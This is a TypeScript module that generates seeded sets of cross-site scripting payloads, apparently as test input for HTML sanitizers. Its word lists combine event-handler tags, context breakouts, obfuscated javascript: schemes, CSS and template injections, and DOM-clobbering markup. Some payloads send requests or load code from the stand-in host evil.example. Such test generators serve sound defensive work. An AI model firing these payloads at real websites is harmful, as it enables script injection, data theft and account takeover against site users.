// A grammar of texts that run a script or send a request where a page takes them for HTML, an address, a style or a template.
// Example: scriptVectors(1, 5_000)[0] -> '"><IMG/src=x onerror=self["hacked"]=1//'

import { type Random, seeded } from './seeded.ts';

type Words = readonly [string, ...string[]];

/** Each sets the mark `hacked` or asks the host evil.example for something. */
const payloads: Words = [
  'hacked=1',
  'globalThis.hacked=1',
  'self["hacked"]=1',
  'top.hacked=1',
  'parent.hacked=1',
  '(()=>{hacked=1})()',
  'window[`hac`+`ked`]=1',
  "fetch('https://evil.example/f')",
  "new Image().src='https://evil.example/i'",
  "navigator.sendBeacon('https://evil.example/b')",
  "import('https://evil.example/m.js')",
  "setTimeout('hacked=1')",
  "location='javascript:hacked=1'",
  '&#104;acked=1',
  '\\u0068acked=1',
  'hacked&#x3d;1',
  'alert(1)',
  '[hacked]=[1]',
  'throw onerror=()=>{hacked=1},1',
];

const carriers: readonly [readonly [tag: string, event: string], ...(readonly [string, string])[]] = [
  ['img src=x', 'onerror'],
  ['img src=https://evil.example/p.png', 'onload'],
  ['image src=x', 'onerror'],
  ['svg', 'onload'],
  ['svg><g', 'onload'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><set attributeName=x', 'onbegin'],
  ['svg><image href=x', 'onerror'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['video src=x', 'onerror'],
  ['video><source src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['xss autofocus tabindex=1', 'onfocus'],
  ['div contenteditable autofocus', 'onfocusin'],
  ['details open', 'ontoggle'],
  ['marquee', 'onstart'],
  ['iframe', 'onload'],
  ['iframe src=//evil.example', 'onload'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['style', 'onload'],
  ['script src=x', 'onerror'],
  ['frameset', 'onload'],
  ['form', 'onformdata'],
  ['div style=animation:a', 'onanimationstart'],
  ['a href=# tabindex=1 autofocus', 'onfocus'],
  ['math><mi', 'onclick'],
  ['dialog open', 'onclose'],
  ['meter', 'onmouseover'],
  ['x', 'onpointerenter'],
  ['div popover id=p', 'onbeforetoggle'],
  ['div style=content-visibility:auto', 'oncontentvisibilityautostatechange'],
];

const breakouts: Words = [
  '',
  '">',
  "'>",
  '`>',
  '>',
  '-->',
  ']]>',
  '*/',
  '</title>',
  '</style>',
  '</script>',
  '</textarea>',
  '</noscript>',
  '</template>',
  '</option></select>',
  '</button></p></div></main>',
  '<svg><style>',
  '<svg><desc>',
  '<math><mtext><table><mglyph><style><!--</style>',
  '<form><math><mtext></form><form><mglyph><style></math>',
  '<noscript><p title="</noscript>',
  '<!--><',
  '<![CDATA[',
  '<?xml version="1.0"?>',
  '%22%3E',
  '&quot;&gt;',
  '\u202e">',
  '\0">',
];
const gaps: Words = [' ', '/', '\t', '\n', '\f', '\r\n', ' /', '  '];
const quotes: Words = ['', '"', "'"];
const closers: Words = ['>', ' >', '/>', '//', '', '\n>', '><!--', '>x'];
const schemes: Words = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  '\u0001javascript:',
  ' javascript:',
  'javascript&colon;',
  '&#106;avascript:',
  '&#x6A;avascript:',
  'javascript\\x3a',
  'jav&#x09;ascript:',
  'javascript://evil.example/%0a',
  'vbscript:',
  'livescript:',
  'data:text/html,<script>',
  'data:text/javascript,',
  'data:image/svg+xml,<svg onload=',
  'blob:',
  'filesystem:',
  'view-source:',
  'feed:javascript:',
];
/** Where an address may stand; `@` is replaced by it. */
const addressPlaces: Words = [
  '<a href="@">x</a>',
  "<a href='@' autofocus>x</a>",
  '<area href="@">',
  '<form action="@"><button autofocus>x',
  '<button formaction="@">x',
  '<input type=image src="@">',
  '<iframe src="@"></iframe>',
  '<iframe srcdoc="<script>@</script>"></iframe>',
  '<object data="@"></object>',
  '<embed src="@">',
  '<link rel=import href="@">',
  '<link rel=stylesheet href="@">',
  '<base href="@//">',
  '<svg><a xlink:href="@"><text>x</text></a></svg>',
  '<svg><use href="@"/></svg>',
  '<svg><animate attributeName=href values="@"/></svg>',
  '<math href="@">x</math>',
  '<meta http-equiv=refresh content="0;url=@">',
  '<script src="@"></script>',
  '<img src="@">',
  '<img srcset="@ 1x">',
  '<video poster="@">',
  '<table background="@">',
  '<isindex action="@" type=image>',
  '[x](@)',
  '![x](@)',
  '<@>',
  '[x]: @',
  '@',
  'www.@',
];
const styles: Words = [
  '<style>*{background:url(@)}</style>',
  '<style>@import "@";</style>',
  '<div style="background:url(@)">',
  '<div style="width:expression(@)">',
  '<div style="-moz-binding:url(@)">',
  '<div style="behavior:url(@)">',
  ';background:url(@);',
  '}*{background:url(@)}',
  '<style>@font-face{font-family:a;src:url(@)}*{font-family:a}</style>',
  '<div style="--a:url(@);background:var(--a)">',
];
const remote: Words = [
  'https://evil.example/a',
  '//evil.example/a',
  'http:evil.example',
  '\\\\evil.example\\a',
  'https://evil。example/',
  'https:/evil.example',
];
const templates: Words = [
  '{{@}}',
  '{{constructor.constructor("@")()}}',
  '{%@%}',
  '#{@}',
  '<%= @ %>',
  '[[@]]',
  '{@}',
  '{{{@}}}',
  '<div ng-app ng-init="@">',
  '<div v-html="@" x-data x-init="@">',
  '<div hx-on:load="@">',
  '<slot onslotchange="@"></slot>',
  '{"type":"img","props":{"src":"x","onerror":"@"},"key":null,"ref":null,"constructor":null}',
  '{"__html":"<img src=x onerror=@>"}',
  '{"dangerously":{"__html":"<svg onload=@>"}}',
  '"+(@)+"',
  "'-(@)-'",
  '\\");@//',
  '</script><script>@</script>',
  '<script>@</script>',
  '<script type=module>@</script>',
  '<script>//\u2028@</script>',
  '<scr<script>ipt>@</scr</script>ipt>',
  '<SCRIPT/x>@</SCRIPT>',
  '<script\n>@</script\n>',
];
const clobbers: Words = [
  'iq',
  'panel',
  'document',
  'body',
  'createElement',
  'attributes',
  'parentNode',
  'firstChild',
  '__proto__',
  'constructor',
  'toString',
  'location',
  'fetch',
  'innerText',
  'children',
];
const clobberers: Words = [
  '<form id=@ name=@><input name=@></form>',
  '<a id=@><a id=@ name=x href=clobbered:1>',
  '<img name=@>',
  '<iframe name=@ srcdoc="x"></iframe>',
  '<object id=@></object>',
  '<embed name=@>',
];

function mixedCase(random: Random, text: string): string {
  const way = random.int(4);
  if (way === 0) return text.toUpperCase();
  if (way === 1) return Array.from(text, (unit, at) => (at % 2 === 0 ? unit.toUpperCase() : unit)).join('');
  return text;
}

const quoted = (quote: string, text: string): string =>
  `${quote}${quote === '' ? text.replaceAll(' ', '') : text}${quote}`;

const makers: readonly [(random: Random) => string, ...((random: Random) => string)[]] = [
  (random) => {
    const [tag, event] = random.pick(carriers);
    const gap = random.pick(gaps);
    const head = `${random.pick(breakouts)}<${mixedCase(random, tag.split(' ', 1)[0] ?? '')}${tag.slice(tag.split(' ', 1)[0]?.length)}`;
    return `${head}${gap}${mixedCase(random, event)}=${quoted(random.pick(quotes), random.pick(payloads))}${random.pick(closers)}`;
  },
  (random) =>
    `${random.pick(breakouts)}${random.pick(addressPlaces).replaceAll('@', () => `${random.pick(schemes)}${random.pick(payloads)}`)}`,
  (random) =>
    `${random.pick(breakouts)}${random.pick(addressPlaces).replaceAll('@', () => random.pick(remote))}`,
  (random) =>
    `${random.pick(breakouts)}${random.pick(styles).replaceAll('@', () => random.pick([random.pick(remote), random.pick(payloads)]))}`,
  (random) =>
    `${random.pick(breakouts)}${random.pick(templates).replaceAll('@', () => random.pick(payloads))}`,
  (random) => {
    const name = random.pick(clobbers);
    return `${random.pick(breakouts)}${random.pick(clobberers).replaceAll('@', () => name)}`;
  },
];

/** `count` different texts, the same from the same seed; half of them carry a script on an event. */
export function scriptVectors(seed: number, count: number): readonly string[] {
  const random = seeded(seed);
  const vectors = new Set<string>();
  while (vectors.size < count) {
    const maker = random.int(2) === 0 ? makers[0] : random.pick(makers);
    vectors.add(maker(random));
  }
  return [...vectors];
}
